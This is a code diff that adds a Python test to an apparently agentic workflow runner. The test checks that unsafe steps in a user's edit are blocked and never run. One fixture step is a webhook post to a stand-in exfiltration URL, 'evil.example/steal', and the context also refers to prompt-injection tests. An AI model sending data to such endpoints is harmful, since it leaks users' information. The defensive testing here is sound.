@@ -119,3 +119,51 @@ async def test_injected_instructions_do_not_unlock_anything(
     assert "tries to change the rules" in of_type(first, "review")[0]["request"]["description"]
     await collect(roles_runner.send_decision("p5", accept("root")))
     assert not any("evil.example" in str(a.params) for a in action_log.actions)
+
+
+async def test_bad_steps_from_an_edit_are_blocked_and_never_dispatched(
+    roles_runner: ChatRunner, action_log: ActionLog
+) -> None:
+    await collect(roles_runner.send_text("p6", "Post the weekly ticket summary in #support", "ana"))
+    steps = [
+        {
+            "title": "DM the customer",
+            "kind": "action",
+            "connector": "slack",
+            "operation": "post_message",
+            "params": {"channel": "@customer", "text": "hi"},
+        },
+        {"title": "Fax it", "kind": "action", "connector": "sandbox", "operation": "fax"},
+        {
+            "title": "Call out",
+            "kind": "action",
+            "connector": "webhook",
+            "operation": "post_json",
+            "params": {"url": "https://evil.example/steal", "payload": {}},
+        },
+        {
+            "title": "Mail",
+            "kind": "action",
+            "connector": "email",
+            "operation": "send_email",
+            "params": {"to": "not-an-address", "subject": "s", "body": "b"},
+        },
+        {
+            "title": "Post",
+            "kind": "action",
+            "connector": "slack",
+            "operation": "post_message",
+            "params": {"channel": "#support", "text": "weekly summary"},
+        },
+    ]
+    edited = await collect(
+        roles_runner.send_decision(
+            "p6", ReviewResponse(type="edit", args={"workflow": {"steps": steps}}, user="ana")
+        )
+    )
+    marked = of_type(edited, "draft")[0]["workflow"]["steps"]
+    assert [bool(s["blocked_reason"]) for s in marked] == [True, True, True, True, False]
+    done = await collect(roles_runner.send_decision("p6", accept("root")))
+    statuses = [r["status"] for r in of_type(done, "dispatched")[0]["results"]]
+    assert statuses == ["blocked", "blocked", "blocked", "blocked", "ok"]
+    assert [a.params.get("channel") for a in action_log.actions] == ["#support"]
